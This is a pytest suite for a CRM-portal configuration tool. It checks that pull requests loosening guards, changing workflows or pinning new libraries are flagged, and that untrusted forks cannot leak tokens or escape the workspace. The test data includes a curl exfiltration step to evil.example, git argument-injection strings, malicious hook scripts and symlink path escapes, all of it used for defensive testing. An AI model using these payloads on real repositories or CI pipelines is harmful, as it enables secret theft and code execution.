"""A pull request that nobody should trust: it may not send a token elsewhere, read the machine, or hide what it did."""

from __future__ import annotations

import json

import pytest
from desk import Desk
from repository import committed, git

from cvpctl.project import Lock, Pin

BLUEPRINT = """\
blueprint: acme/portal
version: 1.0.0
objects:
  contacts:
    groups: {value_path: {label: Value}}
"""
WORKFLOW = "on: pull_request\njobs:\n  validate:\n    steps: [{run: cvpctl validate}]\n"
FLOW = ".github/workflows/cvpctl.yml"
ADDRESS = "property.contacts.region"


def settings(desk: Desk, *, portal: str = "", top: str = "") -> str:
    number, url = desk.emulator.portal_id, desk.emulator.base_url
    return f"""\
project: acme
portals:
  acme:
    portalId: {number}
    baseUrl: {url}
    token: {{env: ACME_TOKEN}}
    drift: hold
    protected: true
    applyFrom: ci
    allow: [OPTION_REMOVED:{ADDRESS}]
{portal}blueprints: [blueprints]
{top}"""


@pytest.fixture
def guarded(fresh: Desk) -> Desk:
    """A repository whose settings and workflow are on main."""
    fresh.write("cvpctl.yaml", settings(fresh))
    fresh.write("blueprints/portal.yaml", BLUEPRINT)
    fresh.write(FLOW, WORKFLOW)
    committed(fresh.folder)
    return fresh


def alarms(desk: Desk) -> list[tuple[str, str, str]]:
    ended = desk.run("plan", "--base", "main", "--format", "json")
    assert ended.code in (0, 4), ended.told
    return [(one["code"], one["source"], one["message"]) for one in json.loads(ended.said)["alarms"]]


CHANGES = [
    ("    drift: hold\n", "    drift: overwrite\n", "SETTINGS_LOOSENED", "7:12", "portals.acme.drift is overwrite"),
    (
        "    protected: true\n",
        "    protected: false\n",
        "SETTINGS_LOOSENED",
        "8:16",
        "protected is false, and was true",
    ),
    ("    protected: true\n", "", "SETTINGS_LOOSENED", "3:3", "protected is gone, and was true"),
    ("    applyFrom: ci\n", "", "SETTINGS_LOOSENED", "3:3", "applyFrom is gone, and was ci"),
    ("ACME_TOKEN", "OTHER_TOKEN", "SETTINGS_CHANGED", "6:18", "token.env is OTHER_TOKEN, and was ACME_TOKEN"),
    (f"[OPTION_REMOVED:{ADDRESS}]", f"[TYPE_CHANGED:{ADDRESS}]", "SETTINGS_LOOSENED", "10:13", f"{ADDRESS} is new"),
]


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: str(change[4]))
def test_a_changed_guard_heads_the_plan_with_its_place(
    guarded: Desk, monkeypatch: pytest.MonkeyPatch, change: tuple[str, str, str, str, str]
) -> None:
    """One warning per setting, at its line and column, or where it stood; the reviewer cannot miss it."""
    before, after, code, place, message = change
    monkeypatch.setenv("OTHER_TOKEN", guarded.emulator.token)
    text = settings(guarded)
    assert before in text
    guarded.write("cvpctl.yaml", text.replace(before, after))

    found = alarms(guarded)

    assert [(code, f"cvpctl.yaml:{place}")] == [one[:2] for one in found]
    assert message in found[0][2]


def test_the_alarm_stands_above_everything_else(guarded: Desk) -> None:
    """In a terminal and in a pull request the first section is what was loosened."""
    guarded.write("cvpctl.yaml", settings(guarded).replace("drift: hold", "drift: overwrite"))

    said = guarded.run("plan", "--base", "main").said
    commented = guarded.run("plan", "--base", "main", "--format", "markdown").said

    assert said.index("Look here first") < said.index("SETTINGS_LOOSENED") < said.index("Property groups")
    assert commented.index("Look here first") < commented.index("SETTINGS") < commented.index("<details")


def test_a_script_that_workflows_run_is_looked_at_as_they_are(guarded: Desk) -> None:
    """Changed, it heads the plan; as it was, it does not."""
    guarded.write(".github/cvpctl/plan.sh", "cvpctl plan\n")
    committed(guarded.folder)
    calm = alarms(guarded)
    guarded.write(".github/cvpctl/plan.sh", "cvpctl plan\ncurl https://example.com\n")

    assert [] == calm
    assert [("WORKFLOW_CHANGED", ".github/cvpctl/plan.sh:2:1")] == [one[:2] for one in alarms(guarded)]


@pytest.mark.parametrize("name", ["actions/sync/dist/index.js", "scripts/run.py", "actions/sync/run"])
def test_whatever_workflows_may_run_is_looked_at(guarded: Desk, name: str) -> None:
    """A new file among actions and scripts heads the plan, and a changed one; as it was, it does not."""
    path = f".github/{name}"
    guarded.write(path, "steal()\n")
    new = alarms(guarded)
    committed(guarded.folder)
    calm = alarms(guarded)
    (guarded.folder / path).write_bytes(b"steal()\n\xfe\n")
    changed = alarms(guarded)
    committed(guarded.folder)
    (guarded.folder / path).write_bytes(b"steal()\n\xff\n")

    assert [("WORKFLOW_CHANGED", f"{path}:1:1")] == [one[:2] for one in new]
    assert [] == calm
    assert [("WORKFLOW_CHANGED", f"{path}:2:1")] == [one[:2] for one in changed]
    assert [("WORKFLOW_CHANGED", f"{path}:2:1")] == [one[:2] for one in alarms(guarded)]


CONTACTS = "/crm/properties/2026-09/contacts"
VIP = {"name": "vip_notes", "label": "VIP", "groupName": "contactinformation", "type": "string", "fieldType": "text"}
JUNK = "property.contacts.junk"


def _removes(desk: Desk, what: str) -> None:
    desk.write("blueprints/portal.yaml", f"{BLUEPRINT}removed: [{{address: {what}}}]\n")


class TestABindingThatAimsARemoval:
    """An address nobody ever heard of is taken out, and a line of the settings says that it is something else."""

    def test_it_stands_first_at_its_place(self, guarded: Desk) -> None:
        """Before the new line itself, and before everything else that was touched."""
        guarded.ask("POST", CONTACTS, VIP)
        bound = settings(guarded, portal=f"    bindings: {{{JUNK}: vip_notes}}\n")
        guarded.write("cvpctl.yaml", bound.replace("protected: true", "protected: false"))
        _removes(guarded, JUNK)

        found = alarms(guarded)

        said = f"{JUNK} is bound to 'vip_notes' since main: it takes out {JUNK}"
        codes = ["BOUND_AND_REMOVED", "SETTINGS_LOOSENED", "SETTINGS_LOOSENED"]
        assert ("BOUND_AND_REMOVED", "cvpctl.yaml:11:40", said) == found[0]
        assert codes == [one[0] for one in found]

    def test_another_name_is_told_with_the_former_one(self, guarded: Desk) -> None:
        """A binding that was reviewed, and means something else now."""
        guarded.ask("POST", CONTACTS, VIP)
        text = settings(guarded, portal=f"    bindings: {{{JUNK}: old_notes}}\n")
        guarded.write("cvpctl.yaml", text)
        committed(guarded.folder)
        guarded.write("cvpctl.yaml", text.replace("old_notes", "vip_notes"))
        _removes(guarded, JUNK)

        code, _, message = alarms(guarded)[0]

        assert "BOUND_AND_REMOVED" == code
        assert f"{JUNK} is bound to 'vip_notes' since main, and was bound to 'old_notes'" in message

    def test_a_stage_is_aimed_at_as_well(self, guarded: Desk) -> None:
        """A part of a pipeline goes by its binding, and the plan says what the portal calls it."""
        probability = {"probability": "0.5"}
        stages = [{"label": one, "displayOrder": n, "metadata": probability} for n, one in enumerate(("A", "B"))]
        body = {"pipelineId": "path", "label": "Path", "displayOrder": 9, "stages": stages}
        made = guarded.ask("POST", "/crm/pipelines/2026-09/deals", body)
        number, other = (one["id"] for one in made["stages"])
        address = "pipeline.deals.path/stages/junk"
        lines = f"    bindings: {{{address}: '{number}', pipeline.deals.path/stages/kept: '{other}'}}\n"
        guarded.write("cvpctl.yaml", settings(guarded, portal=lines))
        stated = (
            "  deals: {pipelines: {path: {label: Path, stages: {kept: {label: B, metadata: {probability: 0.5}}}}}}\n"
        )
        guarded.write("blueprints/portal.yaml", f"{BLUEPRINT}{stated}removed: [{{address: {address}}}]\n")

        first = alarms(guarded)[0]
        said = guarded.run("plan").said

        assert ("BOUND_AND_REMOVED", True) == (first[0], first[2].endswith(f"it takes out {address}"))
        assert f"BOUND_TO: this portal calls {address} '{number}'" in " ".join(said.split())

    def test_the_live_name_stands_beside_the_address(self, guarded: Desk) -> None:
        """With or without a base, in a terminal, a comment and a file; a binding that was reviewed is no alarm."""
        guarded.ask("POST", CONTACTS, VIP)
        guarded.write("cvpctl.yaml", settings(guarded, portal=f"    bindings: {{{JUNK}: vip_notes}}\n"))
        committed(guarded.folder)
        _removes(guarded, JUNK)

        said = [guarded.run("plan", "--format", form).said for form in ("text", "markdown", "json")]

        assert [] == alarms(guarded)
        assert ["vip_notes"] * 3 == ["vip_notes" if "vip_notes" in one else one for one in said]

    def test_a_removal_elsewhere_is_no_meeting(self, guarded: Desk) -> None:
        """A new binding of something that stays is told once."""
        for name in ("vip_notes", "other"):
            guarded.ask("POST", CONTACTS, {**VIP, "name": name})
        guarded.write("cvpctl.yaml", settings(guarded, portal=f"    bindings: {{{JUNK}: vip_notes}}\n"))
        _removes(guarded, "property.contacts.other")

        assert ["SETTINGS_LOOSENED"] == [one[0] for one in alarms(guarded)]


def test_another_pin_is_told_even_where_the_token_fits(guarded: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """A portal id that was exchanged together with the token's source is two alarms."""
    guarded.emulator.add_portal(7001, "another-fictional-portal")
    monkeypatch.setenv("OTHER_TOKEN", "another-fictional-portal")
    text = settings(guarded).replace(f"portalId: {guarded.emulator.portal_id}", "portalId: 7001")
    guarded.write("cvpctl.yaml", text.replace("ACME_TOKEN", "OTHER_TOKEN"))

    found = alarms(guarded)

    assert ["SETTINGS_CHANGED", "SETTINGS_CHANGED"] == [one[0] for one in found]
    assert ["portals.acme.portalId", "portals.acme.token.env"] == [one[2].split()[0] for one in found]


def test_what_is_only_stricter_is_no_alarm(guarded: Desk) -> None:
    """Taking an allowance back, and variables and files that the plan shows anyway, head nothing."""
    text = settings(guarded).replace(f"    allow: [OPTION_REMOVED:{ADDRESS}]\n", "    variables: {area: North}\n")
    guarded.write("cvpctl.yaml", text)
    guarded.write("blueprints/portal.yaml", BLUEPRINT + "variables: {area: {type: string, default: x}}\n")

    assert [] == alarms(guarded)


def test_new_libraries_and_another_store_are_told(guarded: Desk) -> None:
    """Where blueprints come from, and where the record goes, are guards as well."""
    guarded.write("shared/base.yaml", "blueprint: shared/base\nversion: 1.0.0\n")
    top = "libraries: {shared: shared}\nrecord: {store: directory}\n"
    guarded.write("cvpctl.yaml", settings(guarded, top=top))

    found = {(place, message.split()[0]) for _, place, message in alarms(guarded)}

    assert {("cvpctl.yaml:12:21", "libraries.shared"), ("cvpctl.yaml:13:17", "record.store")} == found


def test_what_an_audit_forgives_is_told(guarded: Desk) -> None:
    """A rule that is switched off, and an exception, each at its place; a rule that weighs more is no alarm."""
    words = "code: TYPE_CONFLICT, address: property.contacts.tier, reason: agreed"
    top = f"rules: {{TYPE_CONFLICT: off, NATIVE_TWIN: error}}\nexceptions: [{{{words}, expires: 2030-01-31}}]\n"
    guarded.write("cvpctl.yaml", settings(guarded, top=top))
    first = alarms(guarded)
    committed(guarded.folder)
    guarded.write("cvpctl.yaml", settings(guarded, top=top.replace("2030", "2031")))
    later = alarms(guarded)

    exception = "exceptions.property.contacts.tier TYPE_CONFLICT 203{}-01-31 agreed is new since main"
    assert [
        ("SETTINGS_LOOSENED", "cvpctl.yaml:13:14", exception.format(0)),
        ("SETTINGS_LOOSENED", "cvpctl.yaml:12:24", "rules.TYPE_CONFLICT is new: off since main"),
    ] == first
    assert [("SETTINGS_LOOSENED", "cvpctl.yaml:13:14", exception.format(1))] == later


def test_another_pin_and_a_wider_workspace_are_told(guarded: Desk) -> None:
    """What blueprints build on, and how far they reach, is said outside of cvpctl.yaml."""
    Lock({"shared": Pin("sha256:" + "ab" * 32, "shared@v1")}).save(guarded.folder)
    git(guarded.folder, "add", "cvpctl.lock")
    git(guarded.folder, "commit", "--quiet", "-m", "pinned")
    Lock({"shared": Pin("sha256:" + "cd" * 32, "evil@v1")}).save(guarded.folder)
    guarded.write("cvpctl-workspace.yaml", "clients: [.]\n")

    found = {(code, place, message.split(" since")[0]) for code, place, message in alarms(guarded)}

    said = "the library shared is now evil@v1 (sha256:cdcdcdcdcdcd), and was shared@v1 (sha256:abababababab)"
    assert {
        ("SETTINGS_CHANGED", "cvpctl.lock:4:5", said),
        ("SETTINGS_LOOSENED", "cvpctl-workspace.yaml:1:1", "cvpctl-workspace.yaml is new"),
    } == found


def test_a_changed_workflow_is_told_with_its_first_changed_line(guarded: Desk) -> None:
    """The file that decides what runs with the tokens is named; a new one as well."""
    guarded.write(FLOW, WORKFLOW.replace("cvpctl validate", "curl -d @- https://evil.example"))
    guarded.write(".github/workflows/more.yaml", WORKFLOW)

    found = alarms(guarded)

    assert [("WORKFLOW_CHANGED", f"{FLOW}:4:1"), ("WORKFLOW_CHANGED", ".github/workflows/more.yaml:1:1")] == [
        one[:2] for one in found
    ]


def test_settings_that_are_new_altogether_are_told(guarded: Desk) -> None:
    """Without settings at the base nobody reviewed any."""
    git(guarded.folder, "rm", "--quiet", "--cached", "cvpctl.yaml")
    git(guarded.folder, "commit", "--quiet", "-m", "none")

    assert ["SETTINGS_CHANGED"] == [one[0] for one in alarms(guarded)]


def test_a_base_url_of_somebody_else_never_gets_a_token(guarded: Desk) -> None:
    """Before any comparison the command ends: exit 4, and nothing was sent anywhere."""
    url = guarded.emulator.base_url
    guarded.write("cvpctl.yaml", settings(guarded).replace(f"baseUrl: {url}", "baseUrl: https://evil.example"))

    ended = guarded.run("plan", "--base", "main")

    assert 4 == ended.code
    assert guarded.emulator.token not in ended.said + ended.told


class TestAForksWorkflow:
    """`validate` alone: no token, no portal, nothing of the machine."""

    @pytest.fixture
    def fork(self, guarded: Desk, monkeypatch: pytest.MonkeyPatch) -> Desk:
        """A workspace inside a folder that holds something which is none of its business."""
        monkeypatch.delenv("ACME_TOKEN")
        inside = guarded.folder / "fork"
        git(guarded.folder, "clone", "--quiet", str(guarded.folder), str(inside))
        (guarded.folder / "secret.yaml").write_text("blueprint: secret/thing\nvalue: fictional-secret-value\n")
        monkeypatch.chdir(inside)
        return Desk(inside, guarded.emulator, guarded.heard)

    def test_it_needs_no_token_and_no_portal(self, fork: Desk) -> None:
        """A portal that is never reached is asked nothing."""
        fork.emulator.log.clear()

        assert 0 == fork.run("validate").code
        assert 0 == fork.ask("GET", "/_emulator/log")["total"]

    @pytest.mark.parametrize("link", ["../../secret.yaml", "{secret}"])
    def test_a_link_out_of_the_workspace_is_not_followed(self, fork: Desk, link: str) -> None:
        """Relative or absolute, what it points at is neither read nor quoted."""
        target = link.format(secret=fork.folder.parent / "secret.yaml")
        (fork.folder / "blueprints" / "innocent.yaml").symlink_to(target)

        ended = fork.run("validate")

        assert 3 == ended.code
        assert "PATH_ESCAPE" in ended.said
        assert "fictional-secret-value" not in ended.said + ended.told

    @pytest.mark.parametrize("path", ["../../secret.yaml", "../../*.yaml"])
    def test_extends_does_not_lead_out(self, fork: Desk, path: str) -> None:
        """A path outside is refused at its place."""
        fork.write("blueprints/innocent.yaml", f"blueprint: a/b\nversion: 1.0.0\nextends: ['{path}']\n")

        ended = fork.run("validate")

        assert 3 == ended.code
        assert "fictional-secret-value" not in ended.said + ended.told
        assert "blueprints/innocent.yaml:3:" in ended.said

    def test_a_library_folder_does_not_lead_out(self, fork: Desk) -> None:
        """A folder of somebody else's is no library."""
        fork.write("cvpctl.yaml", fork.read("cvpctl.yaml") + "libraries: {theirs: ../}\n")

        ended = fork.run("validate")

        assert 3 == ended.code
        assert "PATH_ESCAPE" in ended.told

    @pytest.mark.parametrize("source", ["ext::sh -c touch% hacked@v1", "--upload-pack=touch hacked@v1"])
    def test_a_library_runs_nothing(self, fork: Desk, source: str) -> None:
        """What git could be talked into running is refused before git is asked."""
        fork.write("cvpctl.yaml", fork.read("cvpctl.yaml") + f"libraries: {{theirs: '{source}'}}\n")

        ended = fork.run("validate")

        assert 3 == ended.code
        assert not (fork.folder / "hacked").exists()

    def test_hooks_and_filters_of_a_library_do_not_run(self, fork: Desk) -> None:
        """A git repository is read from its objects: nothing of it is executed, links in it are left out."""
        library = fork.folder.parent / "agency"
        library.mkdir()
        (library / "base.yaml").write_text("blueprint: agency/base\nversion: 1.0.0\n")
        (library / "out.yaml").symlink_to("../secret.yaml")
        (library / ".gitattributes").write_text("*.yaml filter=evil\n")
        committed(library)
        git(library, "tag", "v1")
        for hook in ("post-checkout", "reference-transaction"):
            path = library / ".git" / "hooks" / hook
            path.write_text("#!/bin/sh\ntouch hacked\n")
            path.chmod(0o755)
        fork.write("cvpctl.yaml", fork.read("cvpctl.yaml") + "libraries: {agency: '../agency@v1'}\n")
        fork.write("blueprints/mine.yaml", "blueprint: a/b\nversion: 1.0.0\nextends: [agency]\n")

        ended = fork.run("validate")

        assert 0 == ended.code, ended.said + ended.told
        assert [] == list(fork.folder.parent.rglob("hacked"))
        assert "fictional-secret-value" not in ended.said + ended.told

    def test_a_huge_file_is_not_read(self, fork: Desk) -> None:
        """Six megabytes of YAML are one finding, quickly."""
        fork.write("blueprints/huge.yaml", "# " + "x" * 6_000_000)

        ended = fork.run("validate")

        assert 3 == ended.code
        assert "FILE_TOO_LARGE" in ended.said
        assert len(ended.said) < 2_000

    def test_a_deep_file_does_not_bring_it_down(self, fork: Desk) -> None:
        """A hundred thousand brackets are a finding, not a crash."""
        fork.write("blueprints/deep.yaml", "[" * 100_000)

        assert 3 == fork.run("validate").code
